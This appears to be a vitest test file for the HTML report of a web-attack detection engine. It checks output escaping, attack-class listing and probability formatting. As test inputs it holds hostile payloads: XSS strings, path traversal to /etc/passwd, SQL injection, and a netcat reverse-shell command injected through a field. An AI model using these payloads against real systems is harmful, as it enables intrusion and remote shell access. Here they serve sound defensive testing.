import { describe, expect, it } from 'vitest';
import { defaultAnomalyModel } from './anomaly';
import { createInferenceEngine } from './engine';
import { attackEvidence } from './fixtures';
import { defaultModel } from './model-io';
import { esc, renderHtmlReport } from './report';
import { classesPresent, groupPhrases, pct } from './report-parts';
import type { Contribution } from './explain';
import { EvidenceSchema } from '../evidence/schema';

const engine = createInferenceEngine({ model: defaultModel(), anomaly: defaultAnomalyModel() });

describe('HTML report', () => {
  it('is a self-contained page with the verdict, findings, bars and narrative', () => {
    const ev = attackEvidence();
    const html = renderHtmlReport(ev, engine.analyze(ev));
    expect(html).toMatch(/^<!doctype html>/);
    expect(html).toContain('SIMULATE');
    expect(html).toContain('<table>');
    expect(html).toContain('class="bar"');
    expect(html).toContain('Narrative');
    expect(html).not.toMatch(/<script|<link|src=["']http/i);
  });

  it('escapes attacker-controlled strings everywhere', () => {
    const xss = '<script>alert(1)</script>';
    const ev = attackEvidence('xss-1', xss);
    const html = renderHtmlReport(ev, engine.analyze(ev));
    expect(html).not.toContain('<script>');
    expect(html).toContain('&#60;script&#62;alert(1)&#60;/script&#62;');
    expect(esc(`"'&<>\``)).toBe('&#34;&#39;&#38;&#60;&#62;&#96;');
  });

  it('explains every attack class present, not only the strongest', () => {
    const base = attackEvidence('two-classes');
    const ev = EvidenceSchema.parse({
      ...base,
      requests: [
        ...base.requests,
        { method: 'GET', path: '/search', query: { q: '<script>alert(document.cookie)</script>' }, timestamp: base.requests[19].timestamp + 100, clientIp: '198.51.100.9' },
      ],
    });
    const a = engine.analyze(ev);
    const classes = classesPresent(a.requests).map((c) => c.attackClass);
    expect(classes).toEqual(expect.arrayContaining(['sql_injection', 'xss']));
    const html = renderHtmlReport(ev, a);
    expect(html).toContain('Attack classes present');
    expect(html).toContain('SQL injection:');
    expect(html).toContain('Cross-site scripting:');
  });

  it('never shows 100.0% for a probability below 1', () => {
    expect(pct(0.99996)).toBe('>99.9%');
    expect(pct(0.9994)).toBe('99.9%');
    expect(pct(1)).toBe('100%');
    expect(pct(0.5)).toBe('50.0%');
    expect(pct(0.00001)).toBe('<0.1%');
    const ev = attackEvidence();
    // (bar widths are CSS, not probabilities)
    expect(renderHtmlReport(ev, engine.analyze(ev))).not.toMatch(/(?<!width:)100\.0%/);
  });

  it('fills the status column, naming a status that was not captured', () => {
    const base = attackEvidence('no-status');
    const ev = EvidenceSchema.parse({ ...base, requests: base.requests.map(({ statusCode: _s, ...r }) => r) });
    const html = renderHtmlReport(ev, engine.analyze(ev));
    expect(html).toContain('<td>not captured</td>');
    expect(renderHtmlReport(base, engine.analyze(base))).toContain('<td>500</td>');
  });

  it('groups overlapping character n-grams into the phrase they come from', () => {
    const c = (feature: string, contribution: number): Contribution => ({ feature, kind: feature.startsWith('chars') ? 'ngram' : 'feature', value: 0.1, weight: 1, contribution });
    const grouped = groupPhrases([c('chars "\' o"', 0.5), c('chars " or"', 0.4), c('chars "or "', 0.3), c('token "union"', 0.2), c('chars "zz"', 0.1)], "1' or 1=1");
    expect(grouped.map((g) => g.feature)).toEqual(['phrase "\' or " (3 n-grams)', 'token "union"', 'chars "zz"']);
    expect(grouped[0].contribution).toBeCloseTo(1.2);
    // Under the shipped model: which payload's top supporting features overlap depends on the
    // training run, so some traversal and injection payload must show a grouped phrase.
    const payloads = ['../../../etc/passwd', '..%2f..%2f..%2fwindows/win.ini', "1' or '1'='1", '<svg/onload=alert(1)>', '; nc -e /bin/sh 10.0.0.1 4444'];
    const phrases = payloads.flatMap((p) => renderHtmlReport(attackEvidence('phrase-session', p), engine.analyze(attackEvidence('phrase-session', p))).match(/phrase &#34;[^<]*?&#34; \(\d+ n-grams\)/g) ?? []);
    expect(phrases.length).toBeGreaterThan(0);
  });
});
